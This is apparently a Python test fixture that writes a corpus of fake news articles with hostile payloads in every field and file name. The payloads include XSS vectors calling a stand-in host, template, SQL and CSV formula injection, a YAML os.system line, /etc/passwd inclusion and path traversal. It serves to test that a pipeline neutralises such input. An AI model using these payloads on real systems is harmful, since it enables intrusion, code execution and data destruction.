"""A corpus of hostile articles: every payload in running text and in every field of metadata, in several formats.

A payload that were taken for markup, script or template would set ``window.canary``, change the page's title, open a
dialog or ask CANARY for something.
"""

import csv
import io
import json
from pathlib import Path

CANARY = "http://canary.invalid"
RUN = f"window.canary=1;document.title='PWNED';fetch('{CANARY}/f')"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image": f"<img src=x onerror=\"{RUN}\">",
    "image from elsewhere": f"<img src='{CANARY}/i.png'>",
    "svg": f"<svg/onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x dur=1s>",
    "frame": f"<iframe src='{CANARY}/i' srcdoc=\"<script>parent.canary=1</script>\"></iframe>",
    "javascript address": f"javascript:{RUN}//",
    "javascript link": f"<a href=\"java\tscript:{RUN}\" autofocus onfocus=\"{RUN}\">here</a>",
    "data address": "data:text/html,<script>opener.canary=1</script>",
    "double quote": f"\" autofocus onfocus=\"{RUN}\" onmouseover=\"{RUN}\" x=\"",
    "single quote": f"' autofocus onfocus='{RUN}' onmouseover='{RUN}' x='",
    "closing tags": f"</textarea></script></pre></style></title></mark></code></table><script>{RUN}</script>",
    "comment": f"--><script>{RUN}</script><!--",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "cdata": f"]]><script>{RUN}</script><![CDATA[",
    "style": f"<style>@import '{CANARY}/s.css'; * {{background:url({CANARY}/b.png)}}</style>",
    "link": f"<link rel=stylesheet href='{CANARY}/l.css'><link rel=prefetch href='{CANARY}/p'>",
    "meta": f"<meta http-equiv=refresh content='0;url={CANARY}/m'><base href='{CANARY}/'>",
    "form": f"<form action='{CANARY}/f'><input autofocus onfocus=\"{RUN}\"><button>go</button></form>",
    "video": f"<video src='{CANARY}/v' onerror=\"{RUN}\" autoplay><object data='{CANARY}/o'><embed src='{CANARY}/e'>",
    "mutation": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\">",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "wide brackets": f"＜script＞{RUN}＜/script＞ ‹script›",
    "jinja": "{{ 7*7 }}{% for x in range(9) %}{{ ''.__class__.__mro__ }}{% endfor %}{# no #}",
    "templates": "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(name)s %s %n {name!r:>99999999}",
    "markdown": f"![x]({CANARY}/md.png) [x](javascript:{RUN}) # head\n* **b** `c` ~~~ ``` | a | b |\n|---|---|",
    "tex": "$x^{2$ \\frac{$$ \\(a\\) \\input{/etc/passwd} $\\undefined$ _{ ^ \\",
    "tex in pairs": "$\\frac{1}{2}$ costs $5 and $\\notacommand{x}$",
    "bidi": "\u202eevil\u202c \u2066abc\u2069 \u200f\u200e\u061c",
    "controls": "\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\u2028\u2029\ufeff\ufffe",
    "combining": "Z" + "\u0301\u0316" * 300,
    "line ends": "one\r\nSet-Cookie: a=b\rtwo\u2028three",
    "path": "../../../../tmp/hostile-escaped/../x",
    "absolute path": "/tmp/hostile-escaped",
    "windows path": "..\\..\\hostile-escaped\\CON.txt",
    "formula": "=HYPERLINK(\"http://canary.invalid/x\",\"go\")",
    "command formula": "=cmd|' /C calc'!A0",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE articles; --",
    "python": "\"\"\"\nimport os; os.system('touch /tmp/hostile-escaped')\n\"\"\"",
    "yaml": "!!python/object/apply:os.system ['touch /tmp/hostile-escaped']",
    "long word": "x" * 20_000,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
}
GIANT = 1_000_000  # characters of one word

TEXT = """{p}
The mayor of Eastmere, Ada Quill, said on Monday that 4,000 {p} people were hurt. "We need {p} now," she said.

{p} The number of boats grew from 20 to {n} in March 2024, according to {p}. "{p}," Tom Reed of the Harbour Office told
reporters on 5 March 2024. The council approved the {p} plan for the new ferry terminal in Eastmere. {p}"""

CODEBOOK = {
    "variables": {
        "hurt": {"label": f"Hurt <script>{RUN}</script> $x^{{2$ {{{{ 7 }}}}", "kind": "number", "from": "figures",
                 "where": {"value": {"min": 1000}}, "near": ["people", "hurt"]}}}


def write(folder: Path) -> int:
    """Write the corpus, with its codebook and sources; returns the number of articles."""
    import yaml

    folder.mkdir(parents=True)
    records = [record(name, payload, number) for number, (name, payload) in enumerate(PAYLOADS.items())]
    (folder / "rows.jsonl").write_text("".join(f"{json.dumps(r)}\n" for r in records), encoding="utf-8")
    (folder / "rows.csv").write_text(_csv([{**r, "article": f"c-{r['article']}"} for r in records[::3]]),
                                     encoding="utf-8", newline="")
    items = [{"uri": f"javascript:{r['article']}", "headline": r["title"], "body_text": r["text"],
              "infosource": [{"name": r["source"]}], "byline": r["author"]} for r in records[::4]]
    (folder / "wire.json").write_text(json.dumps(items), encoding="utf-8")
    (folder / "codebook.yaml").write_text(yaml.safe_dump(CODEBOOK, allow_unicode=True), encoding="utf-8")
    names = [_named(folder, name, payload) for name, payload in PAYLOADS.items()]
    (folder / "sources.csv").write_text(
        _csv([{"article": n, "source": p} for n, p in zip(names, PAYLOADS.values(), strict=True)]),
        encoding="utf-8", newline="")
    (folder / "giant.txt").write_text(f"A word of {GIANT} characters was printed.\n\n{'w' * GIANT} on Monday.\n")
    return len(records) + len(records[::3]) + len(items) + len(names) + 1


def record(name: str, payload: str, number: int) -> dict[str, str]:
    """An article with the payload everywhere."""
    return {"article": payload + str(number), "text": TEXT.format(p=payload, n=60 + number), "source": payload,
            "title": payload, "author": payload, "url": payload if number % 2 else f"{CANARY}/{name}",
            "published": "2024-03-05" if number % 3 else payload}


def _named(folder: Path, name: str, payload: str) -> str:
    """A file whose name is as much of the payload as a file may be called; returns its name."""
    made = payload.replace("/", "∕").replace("\0", "")[:60].strip() or name
    path = folder / f"f {made}.txt"
    path.write_text(TEXT.format(p=payload, n=len(payload)), encoding="utf-8", newline="")
    return path.name


def _csv(rows: list[dict[str, str]]) -> str:
    made = io.StringIO(newline="")
    writer = csv.DictWriter(made, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return made.getvalue()
